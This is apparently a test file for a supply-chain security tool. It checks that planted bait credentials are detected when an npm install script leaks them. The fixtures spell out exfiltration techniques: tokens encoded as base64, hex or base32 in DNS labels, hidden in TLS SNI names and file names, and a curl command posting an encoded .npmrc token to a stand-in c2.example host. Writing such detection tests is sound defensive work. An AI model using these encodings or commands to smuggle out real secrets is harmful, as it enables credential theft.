// Bait exfiltration: the run's own planted values found in captured strings,
// in the encodings a stealer uses to get them past a filter.
import { describe, expect, test } from "bun:test";
import type { FangsEvent } from "../events/types.ts";
import { baitValues, newBait } from "../runner/bait.ts";
import { allowChecker } from "./allow.ts";
import { findDeviations } from "./compare.ts";
import { extractFingerprints } from "./fingerprint.ts";
import { firstSightFindings } from "./first_sight.ts";
import { loadFixture } from "../../tests/fixtures/events/load.ts";

let seq = 0;
const N = "/usr/local/bin/node";
const base = (pid: number, ppid: number, comm: string, exe: string) => ({ seq: seq++, ts_ns: seq, pid, ppid, uid: 0, comm, exe, cgroup_id: "1", ancestry: [], source: "t" });
const start = (): FangsEvent[] => [
  { ...base(10, 1, "runc:[2:INIT]", "/usr/bin/runc"), kind: "exec", filename: "/usr/local/bin/npm", argv: ["npm", "install", "evil"] },
  { ...base(30, 10, "npm install", N), kind: "exec", filename: "/bin/sh", argv: ["sh", "-c", "node install.js"] },
  { ...base(31, 30, "sh", "/bin/busybox"), kind: "exec", filename: N, argv: ["node", "install.js"] },
  { ...base(31, 30, "node", N), kind: "file", path: "/srv/install/node_modules/evil/install.js", flags: 0, access: "read" },
];
const dns = (qname: string): FangsEvent => ({ ...base(31, 30, "node", N), kind: "dns", qname, qtype: "A", server: "", port: 53 });
const tls = (sni: string): FangsEvent => ({ ...base(31, 30, "node", N), kind: "tls", sni });
const exec = (filename: string, argv: string[]): FangsEvent => ({ ...base(32, 31, "node", N), kind: "exec", filename, argv });
const file = (path: string): FangsEvent => ({ ...base(31, 30, "node", N), kind: "file", path, flags: 0, access: "create" });

const bait = newBait();
const values = baitValues(bait);
const b64 = (s: string) => Buffer.from(s).toString("base64");
const hits = (events: FangsEvent[], v = values) =>
  extractFingerprints([...start(), ...events], { bait: v }).filter((f) => f.category === "bait_exfiltration").map((f) => f.value);

/** DNS labels: at most 63 characters, so a long encoding is split. */
const labels = (s: string) => s.match(/.{1,60}/g)!.join(".");

describe("bait exfiltration", () => {
  test("the npm token base64-encoded into DNS labels (case folded, split, padding dropped)", () => {
    const qname = `${labels(b64(bait.npm_token).replace(/=+$/, "").toLowerCase())}.x.exfil.example`;
    const got = hits([dns(qname)]);
    expect(got).toHaveLength(1);
    expect(got[0]).toStartWith("bait #1 base64 in dns: ");
    // Critical, and enough on its own to hold a first run.
    const fps = extractFingerprints([...start(), dns(qname)], { bait: values });
    const f = findDeviations(fps, new Set(), allowChecker([], "evil")).find((d) => d.category === "bait_exfiltration")!;
    expect(f.severity).toBe("critical");
    expect(firstSightFindings(fps, allowChecker([], "evil")).some((d) => d.category === "bait_exfiltration")).toBe(true);
  });

  test.each([
    ["plain, in an SNI", () => tls(`${bait.github_token.toLowerCase()}.c2.example`)],
    ["hex, in DNS labels", () => dns(`${labels(Buffer.from(bait.aws_secret_access_key).toString("hex"))}.exfil.example`)],
    ["base64 of the whole .npmrc (token at an odd offset), in argv", () => exec("/usr/bin/curl", ["curl", "-d", b64(`//npm.corp.example/:_authToken=${bait.npm_token}\n`), "https://c2.example/"])],
    ["base64url at offset 1, in a file name", () => file(`/tmp/${Buffer.from("x" + bait.aws_secret_access_key).toString("base64url")}`)],
    ["plain AWS key id in a path", () => file(`/tmp/k-${bait.aws_access_key_id}`)],
  ])("%s", (_n, ev) => {
    expect(hits([ev()])).toHaveLength(1);
  });

  test("base32 (the DNS-safe choice) at every byte offset of a longer blob, split into labels", () => {
    // A reference RFC 4648 encoder, independent of the one under test.
    const b32 = (buf: Buffer) => {
      let bits = "";
      for (const b of buf) bits += b.toString(2).padStart(8, "0");
      return (bits.match(/.{1,5}/g) ?? []).map((c) => "abcdefghijklmnopqrstuvwxyz234567"[parseInt(c.padEnd(5, "0"), 2)]).join("");
    };
    for (let k = 0; k < 5; k++) {
      const blob = Buffer.concat([Buffer.from("user=root;tok=".slice(0, 9 + k)), Buffer.from(bait.npm_token), Buffer.from(";end")]);
      expect(hits([dns(`${labels(b32(blob))}.exfil.example`)])).toHaveLength(1);
    }
  });

  test("a value broken up with dashes, dots or spaces in what leaves the box", () => {
    const t = bait.github_token;
    expect(hits([tls(`${t.slice(0, 10)}-${t.slice(10, 20)}.${t.slice(20)}.c2.example`)])).toHaveLength(1);
    expect(hits([exec("/usr/bin/env", ["env", `X=${t.slice(0, 15)}-${t.slice(15)}`])])).toHaveLength(1);
  });

  test("another run's bait, and honest strings, are not hits", () => {
    const other = baitValues(newBait());
    expect(hits([dns(`${labels(b64(bait.npm_token).toLowerCase())}.exfil.example`)], other)).toEqual([]);
    expect(hits([dns("registry.npmjs.org"), tls("objects.githubusercontent.com"), file("/root/.npm/_cacache/index-v5/aa/bb/0123456789abcdef0123456789abcdef")])).toEqual([]);
  });

  test("no recorded real install hits a fresh bait (no false positives over six recorded runs)", () => {
    for (const name of ["real-widget-1.0.0-1", "real-widget-1.2.0-1", "real-banner-1.1.0-1", "real-probe-1.0.0-1", "upgrade-1.1.0", "malicious-1.0.1"]) {
      const got = extractFingerprints(loadFixture(name), { bait: baitValues(newBait()) }).filter((f) => f.category === "bait_exfiltration");
      expect(got).toEqual([]);
    }
  });

  test("without bait values (a run from an older runner) nothing is looked for", () => {
    expect(hits([tls(`${bait.github_token}.c2.example`)], [])).toEqual([]);
  });
});
